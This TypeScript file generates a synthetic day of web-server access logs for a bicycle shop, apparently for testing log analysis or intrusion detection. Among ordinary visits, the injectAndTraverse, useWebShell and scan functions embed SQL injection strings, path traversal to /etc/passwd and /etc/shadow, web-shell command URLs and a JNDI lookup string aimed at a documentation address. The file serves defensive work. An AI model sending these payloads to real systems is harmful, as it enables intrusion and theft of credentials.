import { at, someTimes, toIso, type Timed } from "./day.ts";
import type { Random } from "./random.ts";

const agents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/150.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 15_2) AppleWebKit/605.1.15 Safari/605.1.15",
  "Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 Chrome/150.0 Mobile Safari/537.36",
  "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://www.example.com/bot)",
];

const pages = [
  "/",
  "/frames",
  "/frames/touring-54",
  "/frames/gravel-56?colour=moss",
  "/search?q=student+union+discount",
  "/search?q=select+a+saddle+from+the+list",
  "/blog/how-to-true-a-wheel",
  "/static/site.css",
  "/static/site.js",
  "/images/touring-54.jpg",
  "/basket",
  "/contact",
];

interface Request {
  readonly address: string;
  readonly agent: string;
  readonly path: string;
  readonly method?: "GET" | "POST";
  readonly status?: number;
  readonly host?: string;
}

export function webDay(random: Random): Timed[] {
  return [
    ...someTimes(random, 780).map((time) => visit(random, time)),
    ...someTimes(random, 50).map((time) => lookForMissing(random, time)),
    ...someTimes(random, 36).map((time) => customerSignsIn(random, time)),
    ...scan(),
    ...injectAndTraverse(),
    ...useWebShell(),
    ...guessPasswords(random),
  ];
}

function request(time: number, of: Request): Timed {
  return {
    time,
    event: {
      "@timestamp": toIso(time),
      event: { category: ["web"], dataset: "nginx.access", outcome: (of.status ?? 200) < 400 ? "success" : "failure" },
      host: { name: of.host ?? "web-01" },
      source: { ip: of.address },
      url: { original: of.path },
      http: { version: "1.1", request: { method: of.method ?? "GET" }, response: { status_code: of.status ?? 200 } },
      user_agent: { original: of.agent },
    },
  };
}

function customer(random: Random): Pick<Request, "address" | "agent" | "host"> {
  return {
    address: `198.51.100.${random.between(1, 254)}`,
    agent: random.pick(agents),
    host: random.pick(["web-01", "web-02"]),
  };
}

function visit(random: Random, time: number): Timed {
  return request(time, { ...customer(random), path: random.pick(pages), status: random.chance(0.06) ? 304 : 200 });
}

function lookForMissing(random: Random, time: number): Timed {
  const path = random.pick(["/favicon.ico", "/apple-touch-icon.png", "/frames/road-51", "/docs/../contact"]);
  return request(time, { ...customer(random), path, status: 404 });
}

function customerSignsIn(random: Random, time: number): Timed {
  return request(time, {
    ...customer(random),
    path: "/account/login",
    method: "POST",
    status: random.chance(0.8) ? 302 : 401,
  });
}

const scannerAddress = "203.0.113.45";
const intruder = "203.0.113.80";
const plainAgent = "Mozilla/5.0 (X11; Linux x86_64)";

/** A list of words, tried by a tool that says its name. */
function scan(): Timed[] {
  return Array.from({ length: 60 }, (_, index) =>
    request(at("08:20:00") + index * 1500, {
      address: scannerAddress,
      agent: "gobuster/3.6",
      path: `/${["admin", "backup", "old", "test", "private", "dev"][index % 6]}/${index}`,
      status: 404,
    }),
  );
}

function injectAndTraverse(): Timed[] {
  const paths: readonly (readonly [string, number])[] = [
    ["/frames?size=54'", 500],
    ["/frames?size=54'%20OR%20'1'='1", 200],
    ["/frames?size=54%20UNION%20ALL%20SELECT%20name,password,3%20FROM%20staff--", 200],
    ["/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 200],
    ["/download?file=....//....//etc/shadow", 403],
    ["/.git/config", 404],
  ];
  return paths.map(([path, status], index) =>
    request(at("08:31:00") + index * 23_000, { address: intruder, agent: plainAgent, path, status }),
  );
}

function useWebShell(): Timed[] {
  const from = { address: intruder, agent: plainAgent };
  return [
    request(at("08:41:30"), { ...from, path: "/account/picture", method: "POST", status: 302 }),
    request(at("08:42:17"), { ...from, path: "/uploads/2026/p.php?cmd=id" }),
    request(at("08:43:01"), { ...from, path: "/uploads/2026/p.php?cmd=bash%20-c%20..." }),
    request(at("08:58:40"), { address: scannerAddress, agent: "${jndi:ldap://203.0.113.80/a}", path: "/" }),
  ];
}

function guessPasswords(random: Random): Timed[] {
  return Array.from({ length: 40 }, (_, index) =>
    request(at("11:45:00") + index * 4000 + random.between(0, 700), {
      address: "203.0.113.91",
      agent: plainAgent,
      path: "/account/login",
      method: "POST",
      status: 401,
    }),
  );
}
